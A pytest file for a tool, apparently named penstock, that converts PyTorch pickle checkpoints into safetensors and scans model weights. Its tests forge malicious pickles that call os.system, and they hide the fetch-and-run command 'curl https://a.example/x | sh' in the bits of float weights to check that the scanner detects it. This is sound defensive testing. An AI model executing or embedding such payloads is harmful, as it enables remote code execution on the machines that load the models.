"""Tensors taken out of checkpoints that are assembled opcode by opcode, as torch.save writes them."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from penstock.cli.commands.model import command
from penstock.errors import NotUnderstood, WrongUse
from penstock.inspect.models.tensors import safetensors, tree
from penstock.inspect.models.tensors.read import read
from tests.inspect.pickles import call, group, name, number, stream, system, text, zipped

NUMBERS = np.arange(12, dtype="<f4")


def tensor(
    key: str, offset: int, shape: tuple[int, ...], strides: tuple[int, ...], kind: str = "FloatStorage"
) -> bytes:
    """``_rebuild_tensor_v2`` of a storage with twelve numbers."""
    kept = group(text("storage"), name("torch", kind), text(key), text("cpu"), number(12)) + b"Q"
    hooks = call(name("collections", "OrderedDict"))
    return call(
        name("torch._utils", "_rebuild_tensor_v2"), kept, number(offset), group(*map(number, shape)),
        group(*map(number, strides)), b"\x89", hooks,
    )  # fmt: skip


def entries(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def checkpoint(folder: Path, body: bytes, **storages: bytes) -> Path:
    path = folder / "model.pt"
    members = {"m/data.pkl": stream(body, 2), **{f"m/data/{key[1:]}": data for key, data in storages.items()}}
    path.write_bytes(zipped(members))
    return path


def written(path: Path) -> dict[str, np.ndarray]:
    """A safetensors file by the format's own words, with our reader nowhere near."""
    data = path.read_bytes()
    length = struct.unpack("<Q", data[:8])[0]
    header = json.loads(data[8 : 8 + length])
    assert header.pop("__metadata__") == {"format": "pt"}
    assert (8 + length) % 8 == 0
    kinds = {"F32": "<f4", "I64": "<i8", "F64": "<f8", "BF16": "<u2"}
    made = {}
    for key, about in header.items():
        begin, end = (8 + length + at for at in about["data_offsets"])
        made[key] = np.frombuffer(data[begin:end], kinds[about["dtype"]]).reshape(about["shape"])
    return made


def convert(path: Path, *arguments: str) -> str:
    result = CliRunner().invoke(command, ["convert", str(path), *arguments], standalone_mode=False)
    if result.exception is not None:
        raise result.exception
    return result.output


def test_tensors_in_a_row_in_columns_and_in_windows_come_out_as_they_are(tmp_path):
    body = entries(
        rows=tensor("0", 0, (3, 4), (4, 1)), columns=tensor("0", 0, (4, 3), (1, 4)), window=tensor("0", 5, (2,), (3,)),
        repeated=tensor("0", 2, (3,), (0,)), one=tensor("0", 7, (), ()), none=tensor("0", 0, (0, 4), (4, 1)),
    )  # fmt: skip
    told = convert(checkpoint(tmp_path, body, _0=NUMBERS.tobytes()))
    assert "6 tensors, 30 numbers" in told
    assert "the new one is clean" in told
    made = written(tmp_path / "model.safetensors")
    assert (made["rows"] == NUMBERS.reshape(3, 4)).all()
    assert (made["columns"] == NUMBERS.reshape(3, 4).T).all()
    assert made["window"].tolist() == [5, 8]
    assert made["repeated"].tolist() == [2, 2, 2]
    assert made["one"].tolist() == 7
    assert made["none"].shape == (0, 4)


def test_a_file_that_would_do_harm_gives_its_numbers_and_does_none(tmp_path, monkeypatch):
    monkeypatch.setattr("os.system", lambda *_: pytest.fail("something ran"))
    body = entries(weight=tensor("0", 0, (12,), (1,)), bomb=system())
    told = convert(checkpoint(tmp_path, body, _0=NUMBERS.tobytes()))
    assert "left behind, no tensors: bomb" in told
    assert "the file was malicious, the new one is clean" in told
    assert written(tmp_path / "model.safetensors")["weight"].tolist() == NUMBERS.tolist()


def test_modules_give_the_names_that_a_state_dict_would(tmp_path):
    inner = call(name("acme", "Layer")) + entries(
        _parameters=entries(weight=tensor("0", 0, (12,), (1,)), bias=b"N"), _buffers=b"}", _modules=b"}"
    ) + b"b"  # fmt: skip
    outer = call(name("acme", "Net")) + entries(
        _parameters=b"}", _buffers=entries(mean=tensor("0", 1, (2,), (1,))), _modules=entries(first=inner)
    ) + b"b"  # fmt: skip
    convert(checkpoint(tmp_path, outer, _0=NUMBERS.tobytes()))
    assert set(written(tmp_path / "model.safetensors")) == {"first.weight", "mean"}


def test_of_several_entries_one_is_chosen_by_name(tmp_path):
    weights = entries(w=tensor("0", 0, (12,), (1,)))
    path = checkpoint(tmp_path, entries(model=weights, ema=weights, epoch=number(3)), _0=NUMBERS.tobytes())
    with pytest.raises(NotUnderstood, match="Several entries") as caught:
        convert(path)
    assert "--key" in str(caught.value)
    told = convert(path, "--key", "ema")
    assert "taken from the entry ema" in told
    assert "epoch, model" in told
    with pytest.raises(NotUnderstood, match="no entry 'nix'"):
        convert(path, "--key", "nix", "--force")


def test_the_only_entry_with_tensors_is_taken_by_itself(tmp_path):
    body = entries(state_dict=entries(w=tensor("0", 0, (12,), (1,))), epoch=number(3))
    assert "taken from the entry state_dict" in convert(checkpoint(tmp_path, body, _0=NUMBERS.tobytes()))


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (entries(w=tensor("0", 0, (13,), (1,))), "outside of its storage"),
        (entries(w=tensor("0", -1, (2,), (1,))), "outside of its storage"),
        (entries(w=tensor("0", 0, (2,), (-1,))), "outside of its storage"),
        (entries(w=tensor("0", 0, (2, 2), (1 << 30, 1))), "outside of its storage"),
        (entries(w=tensor("0", 0, (1 << 30, 4), (0, 1))), "may be a bomb"),
        (entries(w=tensor("9", 0, (2,), (1,))), "not in the file"),
        (entries(w=tensor("0", 0, (2,), (1,), "QInt8Storage")), "no form for"),
        (entries(w=b"N"), "no tensor"),
        (b"\x85", "cannot be followed"),
        (b"e", "closes a group"),
    ],
)
def test_a_forged_checkpoint_is_refused_in_words(tmp_path, body, words):
    path = checkpoint(tmp_path, body, _0=NUMBERS.tobytes())
    with pytest.raises(NotUnderstood, match=words), read(path) as found:
        safetensors.write(tmp_path / "out", found)
    assert not (tmp_path / "out").exists()
    assert list(tmp_path.iterdir()) == [path]


def test_nothing_is_written_over_unless_asked(tmp_path):
    path = checkpoint(tmp_path, entries(w=tensor("0", 0, (12,), (1,))), _0=NUMBERS.tobytes())
    convert(path)
    with pytest.raises(WrongUse, match="there already"):
        convert(path)
    with pytest.raises(WrongUse, match="there already"):
        convert(path, "--out", str(path), "--force")
    convert(path, "--force")


def test_arrays_of_numpy_come_out_too_but_not_objects(tmp_path):
    np.savez_compressed(tmp_path / "a.npz", x=np.arange(6, dtype="<i8").reshape(2, 3), y=np.asfortranarray(np.eye(3)))
    convert(tmp_path / "a.npz")
    made = written(tmp_path / "a.safetensors")
    assert made["x"].tolist() == [[0, 1, 2], [3, 4, 5]]
    assert (made["y"] == np.eye(3)).all()
    np.save(tmp_path / "o.npy", np.array([{}], dtype=object), allow_pickle=True)
    with pytest.raises(NotUnderstood, match="no form for"):
        convert(tmp_path / "o.npy")


def test_the_older_stream_of_torch_is_read(tmp_path):
    def older(body: bytes) -> bytes:
        return stream(body, 2)

    kept = (
        group(text("storage"), name("torch", "FloatStorage"), text("k"), text("cpu"), number(12), b"N") + b"Q"
    )  # fmt: skip
    one = call(
        name("torch._utils", "_rebuild_tensor_v2"), kept, number(0), group(number(12)), group(number(1)), b"\x89",
        call(name("collections", "OrderedDict")),
    )  # fmt: skip
    magic = 0x1950A86A20F9469CFC6C
    path = tmp_path / "old.pt"
    path.write_bytes(
        older(b"\x8a\x0a" + magic.to_bytes(10, "little")) + older(b"M\xe9\x03") + older(b"}") + older(entries(w=one))
        + older(b"](" + text("k") + b"e") + struct.pack("<q", 12) + NUMBERS.tobytes()
    )  # fmt: skip
    convert(path)
    assert written(tmp_path / "old.safetensors")["w"].tolist() == NUMBERS.tolist()


def test_a_tree_is_inert(tmp_path):
    import io

    value = tree.read(io.BytesIO(stream(system())))
    assert isinstance(value, tree.Made)
    assert str(value.function) == "os.system"


def hidden(data: bytes, message: bytes, *, bits: bool) -> np.ndarray:
    """Numbers whose last bits, or bytes, are a message."""
    numbers = np.frombuffer(data, "<u4").copy()
    if bits:
        secret = np.unpackbits(np.frombuffer(message, np.uint8))
        numbers[: len(secret)] = (numbers[: len(secret)] & ~np.uint32(1)) | secret
    else:
        secret = np.frombuffer(message, np.uint8)
        numbers[: len(secret)] = (numbers[: len(secret)] & ~np.uint32(255)) | secret
    return numbers.view("<f4")


@pytest.mark.parametrize(
    ("made", "words"),
    [
        (lambda plain: plain, None),
        (lambda plain: np.where(np.arange(4096) == 7, np.nan, plain).astype("<f4"), "1 of 4,096 sampled numbers"),
        (lambda plain: hidden(plain.tobytes(), b"curl https://a.example/x | sh; exit 0", bits=True), "last bits"),
        (lambda plain: hidden(plain.tobytes(), b"\x7fELF\x02\x01\x01" + bytes(90), bits=True), "like a program"),
        (lambda plain: hidden(plain.tobytes(), b"curl https://a.example/x | sh; exit 0", bits=False), "last bytes"),
    ],
)
def test_samples_of_the_numbers_tell_what_does_not_belong_there(tmp_path, made, words):
    plain = np.random.default_rng(3).standard_normal(4096).astype("<f4")
    path = checkpoint(tmp_path, entries(w=tensor("0", 0, (4096,), (1,))), _0=made(plain).tobytes())
    result = CliRunner().invoke(command, ["scan", str(path), "--weights"], standalone_mode=False)
    assert "clean" in result.output
    assert (words in result.output) if words else ("note:" not in result.output)


def test_safetensors_are_read_as_they_are_written(tmp_path):
    path = checkpoint(tmp_path, entries(w=tensor("0", 0, (3, 4), (4, 1))), _0=NUMBERS.tobytes())
    convert(path)
    with read(tmp_path / "model.safetensors") as found:
        (one,) = found.tensors.values()
        assert (one.name, one.kind, one.shape) == ("w", "F32", (3, 4))
        assert b"".join(one.parts()) == NUMBERS.tobytes()
    (tmp_path / "x.bin").write_bytes(b"none of these")
    with pytest.raises(NotUnderstood, match="none that tensors"), read(tmp_path / "x.bin"):
        pass
